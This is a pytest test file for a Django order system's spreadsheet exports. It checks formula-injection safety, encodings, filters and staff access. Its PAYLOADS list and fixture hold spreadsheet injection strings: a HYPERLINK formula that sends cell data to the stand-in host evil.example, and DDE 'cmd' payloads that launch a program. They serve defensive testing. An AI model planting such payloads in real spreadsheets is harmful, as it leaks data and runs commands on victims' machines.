"""Orders out to spreadsheets: CSV (UTF-8 with BOM, or cp932) and XLSX, safe against formula injection,
streamed; the backlog as filtered; only the order desk and managers."""

import csv
import io
from datetime import timedelta

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone
from openpyxl import load_workbook

from licensing.models import JAPAN
from orders.models import Order
from tests.backlog_support import held_order, make_staff, signed_in
from tests.factories import CustomerFactory, submitted_order

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"見積")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "＝1+1",
    "＠SUM(A1)",
]


@pytest.fixture
def desk(client, db):
    """An order-desk admin whose browser asks for English (the column names below are the English headers)."""
    signed_in(client, make_staff("tanaka", "order_desk"))
    client.post("/i18n/setlang/", {"language": "en", "next": "/imports/"})
    return client


@pytest.fixture
def injected_orders(catalog):
    """Orders whose customer name, PO number and notes a spreadsheet would read as formulas."""
    customer = CustomerFactory(code="EVIL", name="+cmd|' /C calc'!A0")
    for index, payload in enumerate(PAYLOADS):
        submitted_order(customer, po_number=f"{payload}-{index}", notes=payload)
    return customer


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response, encoding="utf-8-sig"):
    return list(csv.reader(io.StringIO(body(response).decode(encoding), newline="")))


def test_csv_export_neutralises_every_formula_payload(desk, injected_orders):
    response = desk.get("/imports/export/", {"format": "csv"})

    assert response.status_code == 200
    rows = csv_rows(response)
    header, data = rows[0], rows[1:]
    po_column, notes_column, name_column = header.index("po_number"), header.index("notes"), header.index("customer_name")
    assert len(data) == len(PAYLOADS)
    for row in data:
        for column in (po_column, notes_column, name_column):
            assert row[column].startswith("'"), row[column]
    assert sorted(row[notes_column] for row in data) == sorted("'" + payload.strip() for payload in PAYLOADS)  # intake strips the tab


def test_xlsx_export_cells_are_text_that_starts_with_an_apostrophe(desk, injected_orders):
    response = desk.get("/imports/export/", {"format": "xlsx"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).active
    header = [cell.value for cell in sheet[1]]
    notes, po = header.index("notes") + 1, header.index("po_number") + 1
    cells = [sheet.cell(row=row, column=column) for row in range(2, sheet.max_row + 1) for column in (notes, po)]
    assert len(cells) == 2 * len(PAYLOADS)
    for cell in cells:
        assert cell.data_type == "s" and cell.value.startswith("'"), (cell.value, cell.data_type)
    assert sheet.cell(row=2, column=header.index("total") + 1).data_type == "n"


def test_csv_export_is_utf8_with_bom_by_default_and_cp932_on_request(desk, catalog):
    customer = CustomerFactory(code="JP", name="株式会社日本")
    submitted_order(customer, po_number="注文-1", notes="在宅勤務者追加分")

    utf8 = desk.get("/imports/export/", {"format": "csv"})
    cp932 = desk.get("/imports/export/", {"format": "csv", "encoding": "cp932"})

    assert isinstance(utf8, StreamingHttpResponse)
    utf8_body = body(utf8)
    assert utf8_body.startswith(b"\xef\xbb\xbf")
    cp932_body = body(cp932)
    assert not cp932_body.startswith(b"\xef\xbb\xbf")
    assert "株式会社日本" in cp932_body.decode("cp932") and "注文-1" in cp932_body.decode("cp932")
    assert utf8_body[3:].decode("utf-8") == cp932_body.decode("cp932")


def test_export_writes_yen_as_integers_and_times_in_japan(desk, catalog):
    order = submitted_order(CustomerFactory(code="JP"), po_number="PO-1", lines=(("SRA-1Y", 50),))

    rows = csv_rows(desk.get("/imports/export/", {"format": "csv"}))

    header, row = rows[0], rows[1]
    assert row[header.index("unit_price")] == "5400" and row[header.index("total")] == str(order.total)
    assert row[header.index("received_at")] == order.created_at.astimezone(JAPAN).strftime("%Y-%m-%d %H:%M:%S")


def test_export_by_status_and_date_range(desk, catalog):
    customer = CustomerFactory(code="JP")
    old = submitted_order(customer, po_number="PO-OLD")
    Order.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=40))
    submitted_order(customer, po_number="PO-NEW")
    cancelled = submitted_order(customer, po_number="PO-CANCELLED")
    Order.objects.filter(pk=cancelled.pk).update(status=Order.Status.CANCELLED)
    since = (timezone.localdate(timezone=JAPAN) - timedelta(days=7)).isoformat()

    rows = csv_rows(desk.get("/imports/export/", {"format": "csv", "since": since, "status": ["received"]}))

    assert [row[1] for row in rows[1:]] == ["PO-NEW"]
    assert desk.get("/imports/export/", {"format": "csv", "since": "2026-12-02", "until": "2026-11-01"}).status_code == 400


def test_backlog_export_follows_the_backlog_filters(desk, catalog):
    customer = CustomerFactory(code="JP")
    held_order(customer, catalog, po_number="PO-HELD")
    submitted_order(customer, po_number="PO-MOVING")

    rows = csv_rows(desk.get("/imports/backlog-export/", {"q": "PO-HELD"}))

    assert [row[1] for row in rows[1:]] == ["PO-HELD"]


@pytest.mark.parametrize("role", ["helper", "sales"])
def test_helpers_and_sales_may_neither_import_nor_export(client, catalog, role):
    signed_in(client, make_staff("someone", role))

    for path in ["/imports/", "/imports/export/?format=csv", "/imports/backlog-export/", "/imports/template.xlsx"]:
        assert client.get(path).status_code == 403, path
    assert client.post("/imports/", {}).status_code == 403


@pytest.mark.parametrize("role", ["order_desk", "manager"])
def test_order_desk_and_managers_may_import_and_export(client, catalog, role):
    signed_in(client, make_staff("someone", role))

    assert client.get("/imports/").status_code == 200
    assert client.get("/imports/export/", {"format": "csv"}).status_code == 200


def test_signed_out_visitors_are_sent_to_sign_in(client, db):
    response = client.get("/imports/export/?format=csv")

    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize("language", ["ja", "en"])
def test_template_downloads_in_both_languages_read_back_as_an_import(desk, catalog, language):
    from orders.services.imports import import_preview

    CustomerFactory(code="DEMO1")
    for extension in ("csv", "xlsx"):
        response = desk.get(f"/imports/template.{extension}", {"lang": language})
        assert response.status_code == 200

        preview = import_preview(content=body(response), file_name=f"template.{extension}")

        assert [row.outcome for row in preview.rows] == ["new", "new"] and preview.new_orders == 1


def test_the_backlog_page_links_its_filtered_export_for_the_order_desk_only(client, catalog):
    held_order(CustomerFactory(code="JP"), catalog, po_number="PO-HELD")
    signed_in(client, make_staff("tanaka", "order_desk"))

    page = client.get("/backlog/", {"q": "PO-HELD"}).content.decode()

    assert 'id="backlog-export"' in page and "/imports/backlog-export/?q=PO-HELD&amp;format=xlsx" in page
    client.force_login(make_staff("sato", "helper"))
    assert 'id="backlog-export"' not in client.get("/backlog/").content.decode()


def test_the_admin_exports_the_selected_orders_formula_safe(client, injected_orders):
    from django.contrib.auth.models import User

    client.force_login(User.objects.create_superuser("root", "root@example.jp", None))
    chosen = list(Order.objects.values_list("pk", flat=True)[:2])

    response = client.post("/admin/orders/order/", {"action": "export_xlsx", "_selected_action": chosen})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).active
    assert sheet.max_row == 3
    assert all(sheet.cell(row=row, column=2).value.startswith("'") for row in (2, 3))
    assert client.get("/admin/orders/orderimport/").status_code == 200


def test_export_reads_page_after_page_and_leaves_no_order_out(desk, catalog, monkeypatch):
    from orders import exports

    monkeypatch.setattr(exports, "CHUNK_ORDERS", 2)
    customer = CustomerFactory(code="JP")
    for n in range(5):
        submitted_order(customer, po_number=f"PO-{n}", lines=(("SRA-1Y", 5), ("RDA-1Y", 1)))

    rows = csv_rows(desk.get("/imports/export/", {"format": "csv"}))

    assert [(row[1], row[2]) for row in rows[1:]] == [(f"PO-{n}", sku) for n in range(5) for sku in ("SRA-1Y", "RDA-1Y")]


def test_the_admins_export_button_writes_the_resources_rows_as_filtered(client, injected_orders):
    from django.contrib.auth.models import User
    from django.urls import NoReverseMatch, reverse

    from orders.resources import OrderLineExportResource

    client.force_login(User.objects.create_superuser("root", "root@example.jp", None))
    Order.objects.filter(po_number__startswith="=").update(status=Order.Status.CANCELLED)
    page = client.get("/admin/orders/order/")
    assert "/admin/orders/order/export/" in page.content.decode()

    response = client.post("/admin/orders/order/export/?status__exact=received", {"format": "1", "resource": "0"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).active
    assert [cell.value for cell in sheet[1]] == OrderLineExportResource(language="ja").get_export_headers()
    po_numbers = [sheet.cell(row=row, column=2).value for row in range(2, sheet.max_row + 1)]
    received = Order.objects.filter(status=Order.Status.RECEIVED)
    assert 0 < received.count() < len(PAYLOADS)
    assert sorted(po_numbers) == sorted("'" + order.po_number for order in received for _line in order.lines.all())
    with pytest.raises(NoReverseMatch):  # no import in the admin: imports go through /imports/
        reverse("admin:orders_order_import")


def test_an_export_imports_again_as_already_imported(desk, catalog, customer):
    from orders.services.imports import import_preview, import_run, import_start
    from tests.import_support import csv_bytes

    importer = make_staff("sato", "order_desk")
    record, _preview = import_start(user=importer, content=csv_bytes([["OWNER", "PO-1", "SRA-1Y", 3, "", "=1+1"], ["OWNER", "PO-1", "RDA-1Y", 2, "", ""]]),
                                    file_name="orders.csv")  # fmt: skip
    import_run(import_id=record.pk)

    exported = body(desk.get("/imports/export/", {"format": "csv"}))
    preview = import_preview(content=exported, file_name="export.csv")

    assert [row.outcome for row in preview.rows] == ["skipped", "skipped"]
